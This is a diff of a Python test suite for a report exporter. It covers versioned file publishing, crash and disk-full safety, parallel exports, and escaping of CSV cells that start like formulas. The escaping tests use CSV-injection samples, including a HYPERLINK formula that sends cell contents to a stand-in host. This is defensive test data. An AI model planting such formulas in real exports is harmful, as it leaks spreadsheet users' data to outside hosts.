@@ -10,7 +10,9 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import itertools
 import json
+import os
 import re
 import struct
 import subprocess
@@ -121,9 +123,15 @@ def test_export_round_trips_csv_parquet_json(warehouse_db, awkward, tmp_path):
                                                    "numeric(12,2)", "numeric"]
     assert report.description == "One row per awkward case."
     assert dict((c.name, c.description) for c in report.columns)["label"] == "Text that needs quoting."
-    # nothing but the files and the lock: no temporary file left behind
-    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
-        [*(f"{TABLE}.{fmt}" for fmt in FORMATS), f"{TABLE}.meta.json", ".lock"])
+    # nothing but the files (links to the published version), the versions and the lock:
+    # no temporary file left behind
+    names = [*(f"{TABLE}.{fmt}" for fmt in FORMATS), f"{TABLE}.meta.json"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*names, ".versions", ".lock"])
+    versions = tmp_path / ".versions" / TABLE
+    assert "current" in [p.name for p in versions.iterdir()]
+    assert len(list(versions.iterdir())) == 2  # current, and the version it points to
+    assert sorted(p.name for p in (versions / "current").iterdir()) == sorted(
+        [*names, ".version.json"])
 
     # CSV: NULL is an empty unquoted field (and nothing else: "NaN" is a number), '' is "";
     # pyarrow keeps the two apart. Every value parses back exactly.
@@ -252,15 +260,63 @@ def test_a_failed_export_keeps_the_last_files(warehouse_db, awkward, tmp_path):
 
 def test_an_older_read_never_replaces_a_newer_export(warehouse_db, awkward, tmp_path):
     first = export_report("marts", awkward, tmp_path)
-    meta = tmp_path / f"{TABLE}.meta.json"
-    data = json.loads(meta.read_text())
-    data["refreshed_at"] = "2999-01-01T00:00:00+00:00"  # as if a later run had finished first
-    meta.write_text(json.dumps(data))
+    # as if a later run had read the mart later and finished first
+    record = tmp_path / ".versions" / TABLE / "current" / ".version.json"
+    record.write_text(json.dumps({**json.loads(record.read_text()),
+                                  "read_at": "2999-01-01T00:00:00+00:00"}))
     csv_before = first.path("csv").read_bytes()
     kept = export_report("marts", awkward, tmp_path)
-    assert kept.refreshed_at == "2999-01-01T00:00:00+00:00"
+    assert kept.refreshed_at == first.refreshed_at
     assert first.path("csv").read_bytes() == csv_before
-    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
+    assert not [p for p in tmp_path.rglob("*") if p.name.startswith(".partial-")]
+
+
+FORMULAS = "rpt_test__formulas"
+# Text a spreadsheet would run (OWASP's CSV injection list, and a full-width equals sign),
+# beside text that only looks close to it.
+FORMULA_CELLS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
+                 "\t=1+1", "\r=1+1", "\uff1d1+1"]
+PLAIN_CELLS = ["plain", " =1+1", "a=b", "'quoted", ""]
+
+
+@pytest.fixture
+def formulas(warehouse_db):
+    """A mart whose text cells start like formulas, and negative numbers beside them."""
+    roles.connection("analyst")
+    cells = FORMULA_CELLS + PLAIN_CELLS
+    query(warehouse_db, f"drop table if exists marts.{FORMULAS}")
+    query(warehouse_db, f"create table marts.{FORMULAS} (n integer, cell text, amount numeric, "
+                        "ratio double precision, delta bigint)")
+    for n, cell in enumerate(cells):
+        query(warehouse_db, f"insert into marts.{FORMULAS} values (%s, %s, %s, %s, %s)",
+              (n, cell, Decimal("-3.10"), -1.5, -42))
+    if roles.roles_enabled():
+        query(warehouse_db, f"grant select on marts.{FORMULAS} to pulse_analyst")
+    yield cells
+    query(warehouse_db, f"drop table if exists marts.{FORMULAS}")
+
+
+def _csv_rows(path: Path) -> list[dict]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def test_csv_cells_that_start_like_formulas_are_neutralised(warehouse_db, formulas, tmp_path):
+    report = export_report("marts", FORMULAS, tmp_path)
+
+    rows = _csv_rows(report.path("csv"))
+    assert [r["cell"] for r in rows] == ["'" + c for c in FORMULA_CELLS] + PLAIN_CELLS
+    # numbers are numbers: a negative one keeps its sign and gets no quote
+    assert {(r["amount"], r["ratio"], r["delta"]) for r in rows} == {("-3.10", "-1.5", "-42")}
+    # JSON and Parquet are not read by spreadsheets as formulas: every value as it is
+    assert [r["cell"] for r in json.loads(report.path("json").read_text())] == formulas
+    assert pq.read_table(report.path("parquet")).column("cell").to_pylist() == formulas
+
+
+def test_csv_formulas_kept_raw_when_asked(warehouse_db, formulas, tmp_path, monkeypatch):
+    monkeypatch.setenv("PULSE_CSV_RAW_FORMULAS", "1")
+    report = export_report("marts", FORMULAS, tmp_path)
+    assert [r["cell"] for r in _csv_rows(report.path("csv"))] == formulas
 
 
 def _export_in_child(out_dir: str, name: str) -> int:
@@ -277,6 +333,141 @@ def test_exports_in_parallel_processes_all_reach_the_index(warehouse_db, awkward
     page = (tmp_path / "index.html").read_text()
     assert all(f'<section id="{name}">' in page for name in names)
     assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
+
+
+VERSIONED = "rpt_test__versioned"
+
+
+@pytest.fixture
+def versioned(warehouse_db):
+    """A small mart whose rows the test changes between exports."""
+    roles.connection("analyst")
+    query(warehouse_db, f"drop table if exists marts.{VERSIONED}")
+    query(warehouse_db, f"create table marts.{VERSIONED} as "
+                        "select g as n, 'row ' || g as label from generate_series(1, 3) g")
+    if roles.roles_enabled():
+        query(warehouse_db, f"grant select on marts.{VERSIONED} to pulse_analyst")
+    yield VERSIONED
+    query(warehouse_db, f"drop table if exists marts.{VERSIONED}")
+
+
+def published_rows(out_dir: Path, name: str) -> dict[str, int]:
+    """Rows in each file of report `name`, as a reader opening its usual paths sees them."""
+    meta = json.loads((out_dir / f"{name}.meta.json").read_text())
+    return {"meta": meta["row_count"], "csv": len(_csv_rows(out_dir / f"{name}.csv")),
+            "json": len(json.loads((out_dir / f"{name}.json").read_text())),
+            "parquet": pq.read_table(out_dir / f"{name}.parquet").num_rows}
+
+
+def _export_killed_at_rename(out_dir: str, nth: int) -> None:
+    """Exports VERSIONED and dies (as with SIGKILL: no cleanup) at the nth rename."""
+    calls = itertools.count(1)
+
+    def dying(rename):
+        def wrapper(*args, **kwargs):
+            if next(calls) == nth:
+                os._exit(9)
+            return rename(*args, **kwargs)
+        return wrapper
+
+    os.rename, os.replace = dying(os.rename), dying(os.replace)
+    export_report("marts", VERSIONED, Path(out_dir))
+
+
+@pytest.mark.parametrize("nth", [1, 2, 3])
+def test_an_export_killed_between_renames_leaves_the_old_version_whole(
+        warehouse_db, versioned, tmp_path, nth):
+    export_report("marts", versioned, tmp_path)
+    query(warehouse_db, f"insert into marts.{VERSIONED} values (4, 'row 4')")
+
+    child = get_context("spawn").Process(target=_export_killed_at_rename, args=(str(tmp_path), nth))
+    child.start()
+    child.join(120)
+    assert child.exitcode in (9, 0)  # 0: it needed fewer renames than that, and finished
+    counts = published_rows(tmp_path, versioned)
+    # never a new CSV beside an old Parquet: every file from one version, old or new
+    assert set(counts.values()) in ({3}, {4}), counts
+    assert child.exitcode == 0 or counts["meta"] == 3
+
+    # the next export publishes the new rows whole, and clears what the dead one left
+    report = export_report("marts", versioned, tmp_path)
+    assert published_rows(tmp_path, versioned) == dict.fromkeys(("meta", "csv", "json", "parquet"), 4)
+    assert report.row_count == 4
+    versions = [p.name for p in (tmp_path / ".versions" / versioned).iterdir()
+                if not p.name.startswith(".") and p.name != "current"]
+    assert len(versions) <= 2  # the one published, and the one it replaced
+
+
+def test_a_write_that_fails_leaves_the_old_version_and_no_partial(
+        warehouse_db, versioned, tmp_path, monkeypatch):
+    export_report("marts", versioned, tmp_path)
+    query(warehouse_db, f"insert into marts.{VERSIONED} values (4, 'row 4')")
+
+    def disk_full(path, table):
+        raise OSError(28, "No space left on device", str(path))
+
+    monkeypatch.setattr("pulse.reports._write_parquet", disk_full)  # after CSV and JSON
+    with pytest.raises(OSError, match="No space left"):
+        export_report("marts", versioned, tmp_path)
+    assert set(published_rows(tmp_path, versioned).values()) == {3}
+    assert not [p for p in tmp_path.rglob(".partial-*")]
+
+
+def test_exports_of_one_report_at_once_all_succeed_and_publish_one_whole_version(
+        warehouse_db, awkward, tmp_path):
+    with ProcessPoolExecutor(3, mp_context=get_context("spawn")) as pool:
+        counts = list(pool.map(_export_in_child, [str(tmp_path)] * 6, ["same"] * 6))
+    assert counts == [len(ROWS)] * 6
+    assert set(published_rows(tmp_path, "same").values()) == {len(ROWS)}
+    assert not [p for p in tmp_path.rglob("*") if p.name.startswith(".partial-")
+                or p.name.endswith((".tmp", ".link"))]
+    page = (tmp_path / "index.html").read_text()
+    assert page.count('<section id="same">') == 1
+
+
+def _manifest(path: Path, *tables: str) -> Path:
+    node = {"resource_type": "model", "schema": "marts", "description": "", "columns": {}}
+    path.write_text(json.dumps({"nodes": {
+        f"model.pulse.{t}": {**node, "name": t, "fqn": ["pulse", "marts", "t", t]}
+        for t in tables}}))
+    return path
+
+
+def test_the_report_of_a_removed_mart_leaves_the_folder_and_the_index(
+        warehouse_db, awkward, versioned, tmp_path):
+    out = tmp_path / "out"
+    export_report("marts", versioned, out)
+    # and one exported before versions existed: its files side by side, a meta file
+    export_report("marts", versioned, tmp_path / "old", name="rpt_test__legacy")
+    for p in (tmp_path / "old").glob("rpt_test__legacy.*"):
+        (out / p.name).write_bytes(p.read_bytes())
+    write_index(out)
+    assert 'id="rpt_test__legacy"' in (out / "index.html").read_text()
+
+    query(warehouse_db, f"drop table marts.{VERSIONED}")  # the mart leaves the project
+    written, failed = export_all(_manifest(tmp_path / "manifest.json", TABLE), out)
+
+    assert [r.name for r in written] == [TABLE] and not failed
+    left = sorted(p.name for p in out.iterdir())
+    assert left == sorted([".lock", ".versions", "index.html", f"{TABLE}.meta.json",
+                           *(f"{TABLE}.{fmt}" for fmt in FORMATS)])
+    assert sorted(p.name for p in (out / ".versions").iterdir()) == [TABLE]
+    page = (out / "index.html").read_text()
+    assert VERSIONED not in page and "rpt_test__legacy" not in page
+    assert [r.name for r in read_reports(out)] == [TABLE]
+
+
+def test_an_export_replaces_the_files_of_the_layout_before_versions(
+        warehouse_db, versioned, tmp_path):
+    export_report("marts", versioned, tmp_path / "old")
+    for p in (tmp_path / "old").glob(f"{VERSIONED}.*"):
+        (tmp_path / p.name).write_bytes(p.read_bytes())  # plain files, as Pulse wrote them
+    query(warehouse_db, f"insert into marts.{VERSIONED} values (4, 'row 4')")
+
+    export_report("marts", versioned, tmp_path)
+    for fmt in (*FORMATS, "meta.json"):
+        assert (tmp_path / f"{VERSIONED}.{fmt}").is_symlink()
+    assert set(published_rows(tmp_path, versioned).values()) == {4}
 
 
 def test_report_models_are_the_rpt_marts():
